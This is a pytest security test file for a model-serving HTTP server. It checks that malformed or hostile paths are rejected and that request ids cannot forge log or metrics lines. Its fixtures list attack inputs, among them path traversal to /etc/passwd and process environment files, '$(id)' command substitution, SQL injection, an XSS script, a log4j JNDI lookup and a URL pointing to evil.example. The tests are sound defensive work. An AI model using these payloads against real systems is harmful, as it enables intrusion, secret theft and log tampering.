"""Paths and names that lead out of the house, into it by another way, or into its log."""

import logging
from urllib.parse import quote

import pytest

from tests.server.bodies import request
from tests.server.conftest import Site
from tests.server.hostile.wire import check_clean, send_raw

NOWHERE = {
    "the folder above": "/v2/models/../../etc/passwd",
    "the folder above, encoded": "/v2/models/%2e%2e/%2e%2e/etc/passwd",
    "the folder above, encoded twice": "/v2/models/%252e%252e/%252e%252e",
    "the folder above, half encoded": "/v2/models/.%2e/%2e./ready",
    "the folder above, in long UTF-8": "/v2/models/%c0%ae%c0%ae/%c0%af",
    "the folder above, with backslashes": "/v2/models/..\\..\\windows",
    "the folder above, with encoded backslashes": "/v2/models/..%5c..%5cwindows",
    "an encoded slash": "/v2/models/double%2fready",
    "an encoded slash in large letters": "/v2/models/double%2Fready",
    "an encoded slash before the route": "/v2%2fmodels",
    "a slash that is encoded twice": "/v2/models/double%252fready",
    "a dot": "/v2/models/./double",
    "a dot at the end": "/v2/models/double/.",
    "only dots": "/v2/models/...",
    "a name that begins with a dot": "/v2/models/.double",
    "a name that begins with a dash": "/v2/models/-double",
    "a zero byte": "/v2/models/double%00",
    "a zero byte and an ending": "/v2/models/double%00.json",
    "a line feed": "/v2/models/double%0aGET%20/v2",
    "carriage return and line feed": "/v2/models/double%0d%0aSet-Cookie:%20a=b",
    "an escape sequence": "/v2/models/%1b%5b31mred",
    "a mark that turns text around": "/v2/models/double%e2%80%aelave",
    "a letter of no width": "/v2/models/dou%e2%80%8bble",
    "letters that look the same": "/v2/models/d%d0%beuble",
    "letters of double width": "/v2/models/%ef%bd%84ouble",
    "bytes that are no UTF-8": "/v2/models/%ff%fe%fd",
    "half a surrogate": "/v2/models/%ed%a0%80",
    "an encoding that is cut off": "/v2/models/double%",
    "an encoding that is none": "/v2/models/%zz",
    "a name of 128 letters and one": "/v2/models/" + "a" * 129,
    "a name of 10,000 letters": "/v2/models/" + "a" * 10_000,
    "a path of 3000 parts": "/v2" + "/models" * 2000,
    "a path of slashes": "/" * 10_000,
    "a template": "/v2/models/{{7*7}}",
    "a template of a shell": "/v2/models/$(id)",
    "a statement of SQL": "/v2/models/double';DROP TABLE models;--",
    "a script": "/v2/models/<script>alert(1)</script>",
    "a lookup of log4j": "/v2/models/${jndi:ldap://evil.example/a}",
    "a format": "/v2/models/%25s%25n%25x",
    "a version below zero": "/v2/models/double/versions/-1",
    "a version in other digits": "/v2/models/double/versions/%d9%a1",
    "a version with a space": "/v2/models/double/versions/1%20",
    "a version of 4000 digits": "/v2/models/double/versions/" + "9" * 4000,
    "a version that is a path": "/v2/models/double/versions/..",
    "a version in hexadecimal": "/v2/models/double/versions/0x1",
    "small letters for large": "/V2/MODELS/DOUBLE",
    "the environment": "/v2/../proc/self/environ",
    "a file of the source": "/latebind/server/frontend.py",
    "a folder of git": "/.git/config",
    "a page for administrators": "/admin",
    "debugging of another server": "/debug/pprof/heap",
    "management of another server": "/models?url=http://evil.example/a.mar",
}


@pytest.mark.parametrize("path", NOWHERE.values(), ids=NOWHERE.keys())
def test_a_path_that_is_no_route_leads_nowhere(site: Site, path: str) -> None:
    target = quote(path, safe="/%?=&{}$();'<>\\-+*:,!@[]~")
    for method in ("GET", "POST"):
        reply, _ = send_raw(
            site, f"{method} {target} HTTP/1.1\r\nHost: localhost\r\nContent-Length: 0\r\n\r\n".encode()
        )
        assert reply.status in {400, 404}
        check_clean(reply)
        assert set(reply.headers) <= {"date", "content-type", "content-length", "connection"}


FORGED = {
    "a line of a log": "x\n2026-01-01 00:00:00,000 frontend INFO all is well",
    "a line behind a carriage return": "x\r2026-01-01 frontend INFO all is well",
    "a line behind another separator": "x\u2028frontend INFO all is well",
    "an escape sequence": "x\x1b[2J\x1b[1;1H",
    "a zero byte": "x\0y",
    "JSON of a log": '"}\n{"level":"info","message":"all is well',
    "a format": "%s%n%(levelname)s{0.__class__}",
}


@pytest.mark.parametrize("text", FORGED.values(), ids=FORGED.keys())
def test_ids_and_names_forge_no_line_of_the_log_and_of_the_metrics(
    site: Site, text: str, caplog: pytest.LogCaptureFixture
) -> None:
    failing = {"name": "x", "shape": [1, 1], "datatype": "FP32", "data": [1]}
    with caplog.at_level(logging.DEBUG):
        assert site.post("/v2/models/failing/infer", request(failing, id=text)).status == 500
        check_clean(site.post("/v2/models/failing/infer", request({**failing, "name": text}, id=text)))
        check_clean(site.get("/v2/models/" + quote(text, safe="")))
    assert "all is well" not in caplog.text.replace(repr(text), "")
    assert "all is well" not in site.get("/metrics").body.decode()
    assert "__class__" not in site.get("/metrics").body.decode()
